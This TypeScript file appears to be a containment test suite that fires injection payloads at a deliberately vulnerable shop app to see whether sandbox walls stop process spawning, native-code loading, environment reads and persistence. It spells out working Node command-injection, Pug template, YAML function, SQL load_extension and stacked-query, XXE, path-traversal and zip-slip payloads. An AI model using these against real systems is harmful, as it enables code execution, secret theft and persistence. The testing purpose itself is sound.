import { zipSync } from 'fflate';
import { type Attempt, attemptsTo } from './attempt.ts';
import { inNode, inSandbox, up } from './payloads.ts';

/** Starting programs, loading native code, reading the environment of other processes, and surviving a restart. */

const starting = attemptsTo('start a process', [
  {
    hole: '$where condition',
    title: '`child_process` in an order number',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ trackOrder, prey }) => [
      await trackOrder(`'||require('child_process').execSync('>${prey.outside}/p')||'`),
    ],
  },
  {
    hole: 'order expression',
    title: '`child_process`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) => [await orderLines(inNode.shell(`touch ${prey.outside}/p`))],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that runs a command',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [await userName(inNode.shell(`touch ${prey.outside}/p`))],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that spawns this very Node',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(
        `require('child_process').spawnSync(process.execPath, ['-e', 'fs.writeFileSync("${prey.outside}/p", "x")']).status`,
      ),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that starts a thread',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(
        `new (require('worker_threads').Worker)('require("fs").writeFileSync("${prey.outside}/p", "x")', { eval: true }).threadId`,
      ),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'template code that runs a command',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ profileOf, prey }) => [await profileOf(`a\n- ${inNode.shell(`touch ${prey.outside}/p`)}`)],
  },
  {
    hole: 'chatbot command',
    title: 'a query that runs a command',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ chat, prey }) => [
      await chat('Eve', inSandbox.answerWith(inSandbox.shell(`touch ${prey.outside}/p`))),
    ],
  },
  {
    hole: 'YAML upload',
    title: 'a function type',
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ yaml, prey }) => [
      await yaml(
        `x: !!js/function 'function () { return require("child_process").execSync("touch ${prey.outside}/p") }'`,
      ),
    ],
  },
]);

const native = attemptsTo('load native code', [
  {
    hole: 'order expression',
    title: '`process.dlopen`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) =>
      shows(
        prey.secret,
        await orderLines(
          `const m = { exports: {} }; process.dlopen(m, '${prey.addon}'); throw Error(Object.keys(m.exports))`,
        ),
      ),
  },
  {
    hole: 'user name (Pug)',
    title: '`require` of a native library',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) =>
      shows(prey.secret, await userName(`Object.keys(require('${prey.addon}')).join()`)),
  },
  {
    hole: 'SQL injection',
    title: '`load_extension` in the product search',
    wall: 'SQL gate',
    wall3: true,
    logged: 'database',
    attack: async ({ search, prey }) =>
      // The library was loaded; it just isn't an extension.
      shows(prey.secret, await search(`x')) UNION SELECT load_extension('${prey.addon}'),2,3,4,5,6,7,8,9--`)),
  },
]);

/** Returns the secret if the text is a message that only a loaded library produces. */
function shows(secret: string, text: string): readonly string[] {
  return /StatementIterator|undefined symbol|entry point/.test(text) ? [secret] : [];
}

const environments = attemptsTo('read the environment', [
  {
    hole: 'order expression',
    title: '`process.env`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines }) => [await orderLines('throw Error(JSON.stringify(process.env))')],
  },
  {
    hole: 'user name (Pug)',
    title: '`process.env`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName }) => [await userName('JSON.stringify(process.env)')],
  },
  {
    hole: 'user name (Pug)',
    title: "another process's `/proc/.../environ`",
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [await userName(inNode.read(`/proc/${prey.supervisorPid}/environ`))],
  },
  {
    hole: 'XML upload',
    title: "another process's `/proc/.../environ`",
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ entity, prey }) => [await entity(`file:///proc/${prey.supervisorPid}/environ`)],
  },
  {
    hole: 'XML upload',
    title: "the shop's own `/proc/self/environ`",
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ entity }) => [await entity('file:///proc/self/environ')],
  },
  {
    hole: 'served folder',
    title: "another process's `/proc/.../environ`",
    wall: 'decoy',
    wall3: true,
    logged: 'paths',
    attack: async ({ get, prey }) => [await get(`/ftp/${up}proc/${prey.supervisorPid}/environ`)],
  },
]);

/** Signals for four seconds that it is alive, whatever happens to the process that started it. */
const survivor = (outside: string) =>
  `for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do touch ${outside}/alive; sleep 0.2; done`;

const lasting = attemptsTo('outlive a restart', [
  {
    hole: 'user name (Pug)',
    title: 'a program that is started detached',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(
        `require('child_process').spawn('sh', ['-c', '${survivor(prey.outside)}'], { detached: true, stdio: 'ignore' }).unref()`,
      ),
    ],
  },
  {
    hole: 'order expression',
    title: 'a program that is started detached',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) => [
      await orderLines(
        `require('child_process').spawn('sh', ['-c', '${survivor(prey.outside)}'], { detached: true, stdio: 'ignore' }).unref()`,
      ),
    ],
  },
  {
    hole: 'SQL injection',
    title: 'a stacked statement that changes a product',
    wall: 'SQL gate',
    wall3: false,
    logged: 'database',
    attack: async ({ loginAs, prey }) => [
      await loginAs(`'; UPDATE Products SET description = '${prey.secret}' WHERE id = 1; VACUUM--`),
    ],
    look: async ({ search, prey }) => [await search(prey.secret)],
  },
  {
    hole: 'archive upload',
    title: "a file in place of the shop's own program",
    wall: 'decoy',
    wall3: true,
    logged: 'archive',
    attack: async ({ archive, prey }) => [
      await archive(Buffer.from(zipSync({ [`${up}${prey.outside.slice(1)}/alive`]: Buffer.from('planted') }))),
    ],
  },
]);

export const processAttempts: readonly Attempt[] = [...starting, ...native, ...environments, ...lasting];
